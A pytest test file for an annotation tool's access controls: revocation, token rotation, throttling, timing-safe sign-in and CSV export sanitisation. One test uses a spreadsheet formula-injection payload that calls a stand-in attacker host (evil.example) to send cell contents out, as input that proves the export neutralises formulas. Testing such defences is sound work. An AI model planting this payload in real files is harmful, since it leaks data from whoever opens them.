"""Access under real use: revoking or rotating a token ends sessions already open, reactivation
is its own command, assignment tops items up when annotators leave, answers are bounded, sign-in
is throttled and costs the same for unknown ids, and exports are safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import math

import pytest

from m6_pipeline.annotation import store as store_module
from m6_pipeline.annotation.results import export_csv
from m6_pipeline.annotation.store import (
    MAX_COMMENT_CHARS,
    MAX_FAILED_SIGN_INS,
    OWNER,
    REVOKED,
    SIGN_IN_WINDOW_S,
)
from m6_pipeline.annotation.tokens import AccessDenied


def loaded(store, batch, names=("li", "wang"), per_item=2, admin=False):
    tokens = {name: store.create_annotator(name) for name in names}
    if admin:
        tokens["boss"] = store.create_annotator("boss", role="admin")
    items, key, images = batch
    batch_id = store.load_batch(items, key, images, seed=1)
    store.assign(batch_id, per_item, seed=1)
    return tokens, batch_id


def every_call_refused(store, who) -> None:
    item = "an-item"
    for call in (lambda: store.next_item(who), lambda: store.progress(who), lambda: store.undo_last(who),
                 lambda: store.submit(who, item, {}, 1.0, "skipped"), lambda: store.image(who, "any"),
                 lambda: store.verify(who)):
        with pytest.raises(AccessDenied, match="revoked or your token was replaced"):
            call()


def test_deactivating_ends_an_open_session_and_reactivating_needs_a_new_sign_in(store, batch):
    tokens, _ = loaded(store, batch)
    session = store.sign_in(tokens["li"])
    item = store.next_item(session)
    store.deactivate("li")
    every_call_refused(store, session)
    with pytest.raises(AccessDenied, match="unknown or revoked"):
        store.sign_in(tokens["li"])
    store.reactivate("li")
    every_call_refused(store, session)  # a session from before does not come back
    again = store.sign_in(tokens["li"])
    assert store.next_item(again).item_id == item.item_id
    store.submit(again, item.item_id, {}, 2.0, "skipped")


def test_rotating_ends_open_sessions_and_never_reactivates(store, batch):
    tokens, _ = loaded(store, batch)
    session = store.sign_in(tokens["wang"])
    new = store.rotate_token("wang")
    every_call_refused(store, session)
    with pytest.raises(AccessDenied):
        store.sign_in(tokens["wang"])
    assert store.progress(store.sign_in(new))[0] == 0
    store.deactivate("wang")
    newer = store.rotate_token("wang")
    assert not store.is_active("wang")
    with pytest.raises(AccessDenied, match="unknown or revoked"):
        store.sign_in(newer)  # a new token of a deactivated annotator waits for `reactivate`
    store.reactivate("wang")
    assert store.sign_in(newer).name == "wang"


def test_a_revoked_admin_loses_the_results(store, batch):
    tokens, _ = loaded(store, batch, admin=True)
    boss = store.sign_in(tokens["boss"])
    assert store.answers(boss) == [] and len(store.annotator_table(boss)) == 3
    store.deactivate("boss")
    for call in (lambda: store.answers(boss), lambda: store.annotator_table(boss)):
        with pytest.raises(AccessDenied, match=REVOKED[:20]):
            call()
    assert store.annotator_table(OWNER)  # the file's holder (admin CLI, evaluate) still reads


def holders(store, batch_id) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    with store._read() as db:
        for name, item_id in db.execute(
                "SELECT p.name, a.item_id FROM assignments a JOIN annotators p ON p.id = a.annotator_id "
                "JOIN items i ON i.id = a.item_id WHERE i.batch_id = ?", (batch_id,)):
            out.setdefault(item_id, set()).add(name)
    return out


def test_assignment_tops_items_up_when_an_annotator_leaves(store, batch):
    tokens, batch_id = loaded(store, batch, names=("li", "wang", "zhao"))
    zhao = store.sign_in(tokens["zhao"])
    answered = []
    for _ in range(3):
        item = store.next_item(zhao)
        store.submit(zhao, item.item_id, {}, 1.0, "skipped")
        answered.append(item.item_id)
    before = holders(store, batch_id)
    store.deactivate("zhao")
    store.assign(batch_id, 2, seed=1)
    after = holders(store, batch_id)
    active = {"li", "wang"}
    for item_id, names in after.items():
        if item_id in answered:  # zhao's answers stand: those items keep zhao and are not topped up
            assert names == before[item_id]
        else:
            assert len(names & active) == 2, (item_id, names)
    # the new assignments go to the end of each active queue; nobody got an item twice
    assert all(len(names) <= 3 for names in after.values())
    assert store.owner_answers() and {a["annotator"] for a in store.owner_answers()} == {"zhao"}


@pytest.mark.parametrize("seconds", [math.nan, math.inf, -1.0, 86_401.0, "12"])
def test_seconds_must_be_a_plausible_number(store, batch, seconds):
    tokens, _ = loaded(store, batch)
    li = store.sign_in(tokens["li"])
    with pytest.raises(ValueError, match="seconds on the item"):
        store.submit(li, store.next_item(li).item_id, {}, seconds, "skipped")
    assert store.owner_answers() == []


def test_a_comment_is_bounded(store, batch):
    tokens, _ = loaded(store, batch)
    li = store.sign_in(tokens["li"])
    item = store.next_item(li).item_id
    with pytest.raises(ValueError, match=f"at most {MAX_COMMENT_CHARS}"):
        store.submit(li, item, {}, 3.0, "flagged", "x" * (MAX_COMMENT_CHARS + 1))
    store.submit(li, item, {}, 3.0, "flagged", "y" * MAX_COMMENT_CHARS)
    assert len(store.owner_answers()[0]["comment"]) == MAX_COMMENT_CHARS


def test_the_csv_export_does_not_run_formulas(store, batch):
    tokens, _ = loaded(store, batch, names=("@li", "wang"))
    li = store.sign_in(tokens["@li"])
    payload = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    store.submit(li, store.next_item(li).item_id, {}, 3.0, "flagged", payload)
    wang = store.sign_in(tokens["wang"])
    store.submit(wang, store.next_item(wang).item_id, {}, 3.0, "flagged", "-2+3 is wrong; +fine")
    rows = list(csv.DictReader(io.StringIO(export_csv(store, OWNER))))
    comments = {r["annotator"]: r["comment"] for r in rows}
    assert comments == {"'@li": "'" + payload, "wang": "'-2+3 is wrong; +fine"}
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())


def test_sign_in_is_throttled_per_id_and_per_session(store, batch, monkeypatch):
    tokens, _ = loaded(store, batch)
    li_id = tokens["li"].split(".")[1]
    for _ in range(MAX_FAILED_SIGN_INS):
        with pytest.raises(AccessDenied, match="unknown or revoked"):
            store.sign_in(f"m6.{li_id}.wrong-secret")
    with pytest.raises(AccessDenied, match="too many failed sign-ins"):
        store.sign_in(tokens["li"])  # even the right token, until the window passes
    assert store.sign_in(tokens["wang"]).name == "wang"  # another id is not blocked

    # one browser session guessing across ids is blocked for that session only
    for n in range(MAX_FAILED_SIGN_INS):
        with pytest.raises(AccessDenied):
            store.sign_in(f"m6.guess{n}.secret", session="tab-1")
    with pytest.raises(AccessDenied, match="too many failed sign-ins"):
        store.sign_in(tokens["wang"], session="tab-1")
    assert store.sign_in(tokens["wang"], session="tab-2").name == "wang"

    later = store_module.time.time() + SIGN_IN_WINDOW_S + 1
    monkeypatch.setattr(store_module.time, "time", lambda: later)
    assert store.sign_in(tokens["li"], session="tab-1").name == "li"


def test_an_unknown_id_costs_the_same_hash_as_a_known_one(store, batch, monkeypatch):
    tokens, _ = loaded(store, batch)
    calls = []
    real = store_module.matches
    monkeypatch.setattr(store_module, "matches", lambda *args: calls.append(args) or real(*args))
    with pytest.raises(AccessDenied):
        store.sign_in("m6.00000000.some-secret")
    with pytest.raises(AccessDenied):
        store.sign_in(tokens["li"][:-2] + "xx")
    assert len(calls) == 2  # one scrypt each: the time does not say whether the id exists
